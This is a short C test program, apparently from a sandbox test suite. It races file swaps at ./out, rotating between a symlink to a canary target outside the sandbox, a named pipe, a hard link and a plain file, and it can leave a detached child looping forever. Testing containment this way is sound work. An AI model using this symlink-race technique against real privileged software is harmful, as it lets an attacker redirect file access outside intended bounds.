// SPDX-License-Identifier: MIT
/*
 * Swaps what stands at ./out as fast as it can, a file for a link to TARGET, for a hard link, for a named pipe, and goes
 * on doing so when its parent has ended: whoever looks and then opens takes something else than he looked at.
 */
#include "try.h"

static void swap(const char *target, long times)
{
	for (long i = 0; i != times; i++) {
		symlink(target, "new");
		rename("new", "out");
		mkfifo("new", 0666);
		rename("new", "out");
		link("mine", "new");
		rename("new", "out");
		close(open("new", O_WRONLY | O_CREAT, 0644));
		rename("new", "out");
	}
}

int main(int argc, char **argv)
{
	const char *target = outside("CANARY");

	close(open("mine", O_WRONLY | O_CREAT, 0644));
	if (argc > 2) {
		swap(target, 50);
		return verdict(access("out", F_OK) == 0);
	}
	if (fork() == 0) {
		setsid();
		swap(target, -1);
	}
	usleep((useconds_t)(20000 + (number_of(argc, argv, 1, 0) * 7919) % 10000));
	return THROUGH;
}
